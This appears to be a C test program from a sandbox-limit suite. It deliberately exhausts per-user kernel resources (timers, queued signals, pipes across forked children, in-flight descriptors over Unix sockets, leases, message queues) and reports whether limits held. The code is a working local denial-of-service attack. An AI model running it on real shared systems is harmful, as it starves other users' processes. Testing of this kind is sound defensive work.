/* Takes all it can get of what the kernel counts by user, and keeps it, so that others of the same user run out. */
#include "attack.h"
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <time.h>

#define PLENTY 20000

static void take_timers(void) {
    timer_t timer;
    int taken = 0;
    while (taken < PLENTY && timer_create(CLOCK_MONOTONIC, NULL, &timer) == 0) taken++;
    found("timers without end", taken == PLENTY);
}

static void take_signals(void) {
    sigset_t blocked;
    int taken = 0;
    sigemptyset(&blocked);
    sigaddset(&blocked, SIGRTMIN);
    sigprocmask(SIG_BLOCK, &blocked, NULL);
    while (taken < PLENTY && sigqueue(getpid(), SIGRTMIN, (union sigval){0}) == 0) taken++;
    found("waiting signals without end", taken == PLENTY);
}

/* Pipes as they come, as many as there can be, by many processes; each end is watched as well. */
static void take_pipes(void) {
    for (int child = 0; child < 40; child++) {
        int ready[2];
        char byte;
        if (pipe(ready) != 0) break;
        pid_t pid = fork();
        if (pid == 0) {
            int epoll = epoll_create1(0), ends[2];
            struct epoll_event event = {.events = EPOLLIN};
            while (pipe2(ends, O_NONBLOCK) == 0)
                if (write(ends[1], "x", 1) == 1) epoll_ctl(epoll, EPOLL_CTL_ADD, ends[0], &event);
            if (write(ready[1], "", 1) != 1) _exit(1);
            for (;;) pause();
        }
        close(ready[1]);
        if (pid < 0 || read(ready[0], &byte, 1) != 1) break;
        close(ready[0]);
    }
}

/* Files that were sent through a socket and not received, in a socket that waits in another one. */
static void take_files_on_their_way(void) {
    char byte = 0, space[CMSG_SPACE(sizeof(int) * 64)] = {0};
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    *header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int) * 64)};
    memset(CMSG_DATA(header), 0, sizeof(int) * 64);
    int taken = 0;
    for (int pair = 0; pair < 50; pair++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) != 0) break;
        while (taken < PLENTY && sendmsg(ends[0], &message, 0) == 1) taken += 64;
    }
    found("files on their way without end", taken >= PLENTY);
}

int main(int count, char **arguments) {
    int ends[2];
    (void)count;
    if (pipe(ends) != 0) return 1;
    take_timers();
    take_signals();
    take_files_on_their_way();
    TRY("watches files", inotify_init1(0));
    TRY("watches a folder in the old way", fcntl(open("/tmp", O_RDONLY), F_NOTIFY, 1));
    TRY("makes a pipe larger", fcntl(ends[1], F_SETPIPE_SZ, 1 << 20));
    TRY("holds up whoever opens its program", fcntl(open(arguments[0], O_RDONLY), F_SETLEASE, F_RDLCK));
    TRY("makes a queue", syscall(SYS_mq_open, "/zoo", O_CREAT | O_RDWR, 0600, NULL));
    take_pipes();
    found("has taken what there is", 0);
    return play_on();
}
